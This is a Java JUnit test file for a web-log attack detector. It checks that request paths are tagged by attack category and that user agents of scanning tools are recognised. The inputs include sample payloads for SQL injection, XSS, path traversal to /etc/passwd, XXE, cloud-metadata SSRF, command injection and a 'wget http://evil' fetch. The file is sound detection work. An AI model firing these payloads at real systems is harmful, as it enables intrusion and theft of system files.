package com.jasmin.webloghunter.detectors;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.*;

public class SignatureCatalogTest {

    private final SignatureCatalog catalog = new SignatureCatalog();

    @Test
    @DisplayName("benign targets carry no attack tags")
    public void testBenignTargets() {
        assertTrue(catalog.detectAttacks("/index.html").isEmpty());
        assertTrue(catalog.detectAttacks("/products/42?sort=price&page=2").isEmpty());
        assertTrue(catalog.detectAttacks("").isEmpty());
    }

    @Test
    @DisplayName("union select plus script tag yields SQLi and XSS, SQLi first")
    public void testSimultaneousTags() {
        Set<AttackCategory> tags = catalog.detectAttacks(
                "/search?q=1%20UNION%20SELECT%20%3Cscript%3Ealert(1)%3C/script%3E");

        assertTrue(tags.contains(AttackCategory.SQLI));
        assertTrue(tags.contains(AttackCategory.XSS));
        assertEquals(AttackCategory.SQLI, tags.iterator().next());
    }

    @Test
    @DisplayName("each category is recognised on a characteristic payload")
    public void testEachCategory() {
        assertTrue(catalog.detectAttacks("/item?id=5%27%20OR%201=1--").contains(AttackCategory.SQLI));
        assertTrue(catalog.detectAttacks("/download?file=../../etc/passwd").contains(AttackCategory.TRAVERSAL));
        assertTrue(catalog.detectAttacks("/download?file=..%5c..%5cwin.ini").contains(AttackCategory.TRAVERSAL));
        assertTrue(catalog.detectAttacks("/p?x=%3Csvg%20onload=1%3E").contains(AttackCategory.XSS));
        assertTrue(catalog.detectAttacks("/fetch?url=http://169.254.169.254/latest/meta-data").contains(AttackCategory.SSRF));
        assertTrue(catalog.detectAttacks("/ping?host=1.1.1.1;cat%20/etc/hosts").contains(AttackCategory.CMDI));
        assertTrue(catalog.detectAttacks("/x.php?c=phpinfo()").contains(AttackCategory.RCE));
        assertTrue(catalog.detectAttacks("/xml?d=%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E").contains(AttackCategory.XXE));
        assertTrue(catalog.detectAttacks("/ldap?user=*)(uid=*").contains(AttackCategory.LDAP));
        assertTrue(catalog.detectAttacks("/login?user[$ne]=admin").contains(AttackCategory.NOSQL));
    }

    @Test
    @DisplayName("tag order follows catalog order")
    public void testTagOrder() {
        List<AttackCategory> tags = List.copyOf(catalog.detectAttacks("/a?x=../etc/passwd%27;wget%20http://evil"));

        for (int i = 1; i < tags.size(); i++) {
            assertTrue(tags.get(i - 1).ordinal() < tags.get(i).ordinal());
        }
        assertEquals(AttackCategory.SQLI, tags.get(0));
    }

    @Test
    @DisplayName("detecting twice on the same input gives the same tags")
    public void testDetectionIsRepeatable() {
        String raw = "/q?x=%2527%2520union";
        assertEquals(catalog.detectAttacks(raw), catalog.detectAttacks(raw));
    }

    @Test
    @DisplayName("tool detection: scanners, browser, bot, unknown")
    public void testDetectTool() {
        assertNull(catalog.detectTool(""));
        assertNull(catalog.detectTool(null));
        assertEquals("sqlmap", catalog.detectTool("sqlmap/1.4.7#stable (http://sqlmap.org)"));
        assertEquals("sqlmap", catalog.detectTool("SQLMAP/1.0"));
        assertEquals("curl", catalog.detectTool("curl/7.68.0"));
        assertEquals("python-requests", catalog.detectTool("python-requests/2.31.0"));
        assertEquals("nikto", catalog.detectTool("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"));
        assertEquals("burpsuite", catalog.detectTool("Burp Collaborator"));
        assertEquals("browser", catalog.detectTool(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"));
        assertEquals("bot", catalog.detectTool("Googlebot/2.1 (+http://www.google.com/bot.html)"));
        assertNull(catalog.detectTool("InternalHealthChecker"));
    }

    @Test
    @DisplayName("curl and wget need a version suffix")
    public void testVersionedTools() {
        assertNull(catalog.detectTool("curling-club-client"));
        assertEquals("wget", catalog.detectTool("Wget/1.21.2"));
    }

    @Test
    @DisplayName("endpoint predicates")
    public void testEndpointPredicates() {
        assertTrue(catalog.isApiEndpoint("/api/orders"));
        assertTrue(catalog.isApiEndpoint("/v2/items"));
        assertTrue(catalog.isApiEndpoint("/feed.json"));
        assertFalse(catalog.isApiEndpoint("/about"));

        assertTrue(catalog.isSensitiveEndpoint("/backup/site.bak"));
        assertTrue(catalog.isSensitiveEndpoint("/admin/users"));
        assertFalse(catalog.isSensitiveEndpoint("/contact"));

        assertTrue(catalog.hasSessionParameter("/cart;JSESSIONID=ABC"));
        assertTrue(catalog.hasSessionParameter("/x?PHPSESSID=1"));
        assertFalse(catalog.hasSessionParameter("/x?page=1"));

        assertTrue(catalog.isBotUserAgent("bingbot/2.0"));
        assertFalse(catalog.isBotUserAgent("Mozilla/5.0"));
    }
}
